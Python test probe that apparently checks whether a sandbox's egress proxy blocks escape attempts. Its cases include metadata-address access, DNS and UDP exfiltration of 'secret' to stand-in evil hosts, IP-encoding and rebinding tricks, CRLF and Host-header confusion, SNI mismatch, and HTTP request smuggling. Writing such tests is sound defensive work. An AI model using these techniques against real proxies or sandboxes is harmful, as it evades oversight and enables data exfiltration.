"""Runs inside: one try to get somewhere, by name. Standard library only.

It says `REACHED` with what came back, or `refused` and why; the internet's own log decides.
"""

import os
import socket
import ssl
import sys
import urllib.request
from collections.abc import Callable
from pathlib import Path

ALLOWED, EVIL, NAMES, PRIVATE = "198.51.100.10", "198.51.100.11", "198.51.100.53", "10.66.0.1"
METADATA, VERSION_6, OWN = "169.254.169.254", "2001:db8::10", "198.51.100.1"
CANARY_PORT = 7799
SECONDS = 3
GET = "GET / HTTP/1.1\r\nHost: {}\r\n\r\n"
QUESTION = (
    b"\xab\xcd\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x04evil\x04test\x00\x00\x01\x00\x01"
)


def proxy() -> socket.socket:
    return socket.create_connection(("127.0.0.1", 3128), SECONDS)


def read(link: socket.socket) -> bytes:
    link.settimeout(SECONDS)
    found = b""
    try:
        while b"reached" not in found and b"not pass" not in found:
            data = link.recv(65536)
            if not data:
                break
            found += data
    except TimeoutError:
        return found
    return found


def direct(address: str, port: int = 80) -> bytes:
    link = socket.create_connection((address, port), SECONDS)
    link.sendall(GET.format("direct.test").encode())
    return read(link)


def datagram(address: str, port: int, data: bytes) -> bytes:
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.settimeout(1)
    link.sendto(data, (address, port))
    return link.recv(1000) if port == 53 else b""


def names_by_tcp() -> bytes:
    link = socket.create_connection((NAMES, 53), SECONDS)
    link.sendall(len(QUESTION).to_bytes(2, "big") + QUESTION)
    return link.recv(10)


def say(text: str) -> bytes:
    link = proxy()
    link.sendall(text.encode("latin-1"))
    return read(link)


def connected(place: str) -> socket.socket:
    link = proxy()
    link.sendall(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode("latin-1"))
    answer = b""
    while b"\r\n\r\n" not in answer:
        data = link.recv(1)
        if not data:
            break
        answer += data
    if b" 200 " not in answer:
        raise OSError(answer.split(b"\r\n")[0].decode() + read(link).decode())
    return link


def tunnel(place: str, host: str = "") -> bytes:
    link = connected(place)
    link.sendall(GET.format(host or place.rpartition(":")[0]).encode())
    return read(link)


def secured(place: str, name: str | None, host: str = "") -> bytes:
    context = ssl.create_default_context()
    if os.environ.get("PROBE_TRUSTS") != "yes":
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    if name is None:
        context.check_hostname = False
    with context.wrap_socket(connected(place), server_hostname=name) as link:
        link.sendall(GET.format(host or name or place).encode())
        return read(link)


def at_socket() -> bytes:
    path = Path("/run/agentry-egress/gateway.sock")
    if not path.exists():
        return tunnel("evil.test:80")  # the control has a proxy only
    link = socket.socket(socket.AF_UNIX)
    link.connect(str(path))
    link.sendall(b"CONNECT evil.test:80 HTTP/1.1\r\n\r\n")
    return read(link)


def posted(fields: str, body: str) -> bytes:
    head = "POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n"
    return say(head + fields + "\r\n" + body)


def twice(place: str) -> bytes:
    first = tunnel(place)
    return tunnel(place) if b"reached" in first else first


def database(name: str) -> bytes:
    link = socket.create_connection((name, 5432), SECONDS)
    greeting = link.recv(100)
    link.sendall(b"me\n")
    return greeting + read(link)


def fetched(url: str) -> bytes:
    with urllib.request.urlopen(url, timeout=SECONDS) as answer:
        return bytes(answer.read())


SECOND = GET.format("evil.test")
REFUSED: dict[str, Callable[[], object]] = {
    "direct_to_a_listed_address": lambda: direct(ALLOWED, 443),
    "direct_to_another_address": lambda: direct(EVIL),
    "direct_to_metadata": lambda: direct(METADATA),
    "direct_to_a_private_address": lambda: direct(PRIVATE),
    "direct_by_version_6": lambda: direct(VERSION_6),
    "service_on_the_hosts_loopback": lambda: direct("127.0.0.1", CANARY_PORT),
    "service_on_the_hosts_address": lambda: direct(OWN, CANARY_PORT),
    "datagram": lambda: datagram(EVIL, 9999, b"secret"),
    "question_by_datagram": lambda: datagram(NAMES, 53, QUESTION),
    "question_by_stream": names_by_tcp,
    "question_by_the_library": lambda: socket.getaddrinfo("secret.evil.test", 80),
    "unlisted_host": lambda: tunnel("evil.test:80"),
    "unlisted_host_with_tls": lambda: secured("evil.test:443", "evil.test"),
    "unlisted_port": lambda: tunnel("allowed.test:22"),
    "listed_host_by_its_address": lambda: tunnel(ALLOWED + ":80"),
    "metadata_by_its_address": lambda: tunnel(METADATA + ":80"),
    "version_6_by_its_address": lambda: tunnel("[" + VERSION_6 + "]:80"),
    "mapped_address": lambda: tunnel("[::ffff:" + EVIL + "]:80"),
    "decimal_address": lambda: tunnel("3325256715:80"),
    "octal_address": lambda: tunnel("0306.063.0144.013:80"),
    "hexadecimal_address": lambda: tunnel("0xc633640b:80"),
    "short_address": lambda: tunnel("198.51.25611:80"),
    "name_that_leads_to_metadata": lambda: tunnel("rebind.test:80"),
    "name_that_leads_to_mapped_metadata": lambda: tunnel("mapped.test:80"),
    "name_that_changes_its_mind": lambda: twice("flip.test:80"),
    "name_that_is_public_and_private": lambda: tunnel("mixed.test:80"),
    "name_below_a_suffix_that_is_private": lambda: tunnel("private.suffix.test:80"),
    "name_that_leads_to_a_private_network": lambda: tunnel("inside.test:80"),
    "name_that_leads_to_the_hosts_loopback": lambda: tunnel(f"loop.test:{CANARY_PORT}"),
    "listed_name_as_a_label": lambda: tunnel("allowed.test.evil.test:80"),
    "suffix_without_its_dot": lambda: tunnel("evilsuffix.test:80"),
    "suffix_itself": lambda: tunnel("suffix.test:80"),
    "line_end_in_the_target": lambda: say(
        "CONNECT evil.test:80\r\nX: allowed.test:80 HTTP/1.1\r\n\r\n" + SECOND
    ),
    "user_name_in_the_target": lambda: say(
        plain("http://allowed.test:80@evil.test/", "Host: evil.test")
    ),
    "user_name_in_a_tunnels_target": lambda: tunnel("allowed.test@evil.test:80"),
    "tls_that_names_another_server": lambda: secured("allowed.test:443", "evil.test"),
    "tls_that_names_none": lambda: secured("allowed.test:443", None, "evil.test"),
    "tls_that_names_another_on_a_plain_port": lambda: secured("allowed.test:5432", "evil.test"),
    "no_tls_where_there_must_be": lambda: tunnel("allowed.test:443"),
    "plain_request_to_a_tls_port": lambda: say(
        plain("http://allowed.test:443/", "Host: allowed.test:443")
    ),
    "plain_request_to_an_unlisted_host": lambda: say(plain("http://evil.test/", "Host: evil.test")),
    "request_that_names_another_host": lambda: say(
        plain("http://allowed.test/", "Host: evil.test")
    ),
    "request_with_two_hosts": lambda: say(
        plain("http://allowed.test/", "Host: allowed.test", "Host: evil.test")
    ),
    "second_request_behind_the_first": lambda: say(
        plain("http://allowed.test/", "Host: allowed.test") + SECOND
    ),
    "length_beside_chunks": lambda: posted(
        "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + SECOND
    ),
    "two_lengths": lambda: posted("Content-Length: 0\r\nContent-Length: 60\r\n", SECOND),
    "half_a_line_end": lambda: say(
        plain("http://allowed.test/", "Host: allowed.test", "X: 1\nHost: evil.test")
    ),
    "unlisted_host_at_the_socket_itself": at_socket,
    "another_host_inside_opened_tls": lambda: secured("bound.test:443", "bound.test", "evil.test"),
}
ALLOWED_ONES: dict[str, Callable[[], object]] = {
    "tls_by_proxy": lambda: secured("allowed.test:443", "allowed.test"),
    "tls_below_a_suffix": lambda: secured("www.suffix.test:443", "www.suffix.test"),
    "plain_by_proxy": lambda: fetched("http://allowed.test/"),
    "database_by_its_name": lambda: database("allowed.test"),
    "private_database_whose_address_is_named": lambda: database("named.test"),
    "bound_host_by_plain_request": lambda: fetched("http://bound.test/"),
    "bound_host_by_tls": lambda: fetched("https://bound.test/"),
}


def plain(target: str, *fields: str) -> str:
    return "\r\n".join([f"GET {target} HTTP/1.1", *fields, "", ""])


def main() -> None:
    try:
        answer = {**REFUSED, **ALLOWED_ONES}[sys.argv[1]]()
    except (OSError, ValueError) as error:
        print("refused:", type(error).__name__, error)
        return
    print("REACHED" if b"reached" in bytes(str(answer), "utf-8") else "refused:", answer)


if __name__ == "__main__":
    main()
